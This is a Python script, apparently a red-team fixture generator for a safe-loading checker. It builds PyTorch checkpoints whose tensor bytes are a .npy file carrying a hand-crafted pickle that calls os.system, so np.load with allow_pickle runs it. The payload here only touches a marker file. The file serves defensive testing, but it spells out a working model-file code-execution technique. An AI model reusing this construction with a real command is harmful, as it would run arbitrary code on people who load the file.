"""torch.save checkpoints whose tensor bytes are a .npy file: torch.load reads a uint8 tensor,
np.load(allow_pickle=True) of the same file is an NpzFile that reads any member starting with the
.npy magic as an array, so an object array's pickle runs (numpy reads the member 'archive/data/0').

Run with Debian's python3 (torch 1.13, numpy): python3 make_npy_in_storage_fixtures.py [--prove]
"""
import io, os, struct, sys
import numpy as np
import torch

MARK = '/tmp/safeload-redteam-pwned'
HERE = os.path.dirname(os.path.abspath(__file__))


def evil_pickle():
    cmd = ('touch ' + MARK).encode()
    return b'\x80\x02cos\nsystem\nq\x00X' + struct.pack('<I', len(cmd)) + cmd + b'\x85R.'


def npy_object(payload):
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr + ' ' * (63 - (10 + len(hdr)) % 64) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(hdr)) + hdr.encode() + payload


def npy_numeric():
    b = io.BytesIO()
    np.save(b, np.arange(4, dtype='<f4'))
    return b.getvalue()


def save(name, data):
    t = torch.frombuffer(bytearray(data), dtype=torch.uint8)
    torch.save({'embedding': t}, os.path.join(HERE, name))


save('storage_is_object_npy.pt', npy_object(evil_pickle()))
save('storage_is_numeric_npy_twin.pt', npy_numeric())

if '--prove' in sys.argv:
    for name in ['storage_is_object_npy.pt', 'storage_is_numeric_npy_twin.pt']:
        if os.path.exists(MARK):
            os.remove(MARK)
        path = os.path.join(HERE, name)
        t = torch.load(path)
        npz = np.load(path, allow_pickle=True)
        arrays = {k: npz[k] for k in npz.files if k.endswith('data/0')}
        print(f'{name:34s} torch.load: {len(t["embedding"])} bytes; np.load: {list(arrays)}; payload ran={os.path.exists(MARK)}')
